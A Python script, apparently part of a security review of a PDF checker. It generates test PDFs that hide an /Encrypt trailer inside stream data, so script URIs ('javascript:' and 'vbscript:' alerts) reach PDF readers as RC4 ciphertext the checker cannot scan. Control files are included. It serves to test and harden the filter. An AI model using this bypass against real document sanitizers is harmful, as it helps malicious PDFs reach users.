#!/usr/bin/env python3
"""Review 28, idea 2: an /Encrypt the check sees only in stream data.

The check refuses /Encrypt outside stream data as Encrypted; inside data it
only notes p.encrypted (which refuses only with object streams).  A classic
xref table + trailer written inside a plain stream's data, startxref pointing
at it (as review27/js-fmt-trl), carries /Encrypt (Standard, RC4 40-bit, empty
user password) and /ID.  Every object is in the text; strings are RC4
ciphertext, so the check's URI scan reads noise while readers decrypt
"javascript:..." .

  enc-uri      Link annotation /A << /S /URI /URI <ciphertext> >>
  enc-uri-vb   the same with vbscript:
  enc-uri-ctl  control: the same trailer at the top level (refused as Encrypted)
  (a repair variant, the trailer dictionary alone in a plain stream's data
  with startxref pointing nowhere, is read by no reader: ruled out)
  enc-uri-plain control: no encryption, javascript: in clear (refused)
"""
import hashlib, os, sys
OUT = os.path.dirname(os.path.abspath(__file__))

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

def rc4(key, data):
    S = list(range(256)); j = 0
    for i in range(256):
        j = (j + S[i] + key[i % len(key)]) & 255; S[i], S[j] = S[j], S[i]
    out = bytearray(); i = j = 0
    for c in data:
        i = (i + 1) & 255; j = (j + S[i]) & 255; S[i], S[j] = S[j], S[i]
        out.append(c ^ S[(S[i] + S[j]) & 255])
    return bytes(out)

ID0 = bytes.fromhex("0123456789abcdef0123456789abcdef")
P = -4
O = rc4(hashlib.md5(PAD).digest()[:5], PAD)          # owner pw = user pw = ""
KEY = hashlib.md5(PAD + O + (P & 0xffffffff).to_bytes(4, "little") + ID0).digest()[:5]
U = rc4(KEY, PAD)

def enc(num, gen, s):
    k = hashlib.md5(KEY + num.to_bytes(3, "little") + gen.to_bytes(2, "little")).digest()[:10]
    return rc4(k, s)

def hexs(b): return b"<" + b.hex().encode() + b">"

ENCDICT = (b"<< /Filter /Standard /V 1 /R 2 /O " + hexs(O) + b" /U " + hexs(U) + b" /P %d >>" % P)

def build(v):
    scheme = b"vbscript:msgbox(1)" if v == "enc-uri-vb" else b"javascript:app.alert('PWNED by URI')"
    uri = hexs(scheme) if v == "enc-uri-plain" else hexs(enc(4, 0, scheme))
    b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    def obj(n, body):
        offs[n] = len(b); b.extend(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 300 200 ] /Annots [ 4 0 R ] >>")
    obj(4, b"<< /Type /Annot /Subtype /Link /Rect [ 20 20 280 180 ] /Border [ 0 0 1 ] /A << /S /URI /URI " + uri + b" >> >>")
    size = 6
    trl = (b"<< /Size %d /Root 1 0 R " % size +
           (b"" if v == "enc-uri-plain" else b"/Encrypt " + ENCDICT) +
           b" /ID [ " + hexs(ID0) + b" " + hexs(ID0) + b" ] >>\n")
    def table():
        t = b"xref\n0 %d\n0000000000 65535 f \n" % size
        for n in range(1, size):
            t += b"%010d 00000 n \n" % offs.get(n, 0)
        return t + b"trailer\n" + trl
    if v in ("enc-uri-ctl", "enc-uri-plain"):
        offs[5] = 0
        x = len(b); b += table()
    elif v == "enc-uri-rep":
        d = trl
        offs[5] = len(b)
        b += b"5 0 obj\n<< /Length %d >>\nstream\n" % len(d) + d + b"\nendstream\nendobj\n"
        b += b"startxref\n999999\n%%EOF\n"
        return bytes(b)
    else:
        offs[5] = len(b)
        data = b"% some bytes\n"
        # the table lists object 5 itself; its length is fixed by the table's size
        head = b"5 0 obj\n<< /Length %d >>\nstream\n"
        body = data + table() + b"% more bytes\n"
        b += head % len(body)
        x = len(b) + len(data)
        b += body + b"\nendstream\nendobj\n"
    b += b"startxref\n%d\n%%%%EOF\n" % x
    return bytes(b)

for v in (sys.argv[1:] or ["enc-uri", "enc-uri-vb", "enc-uri-ctl", "enc-uri-plain"]):
    open(os.path.join(OUT, v + ".pdf"), "wb").write(build(v)); print(v)
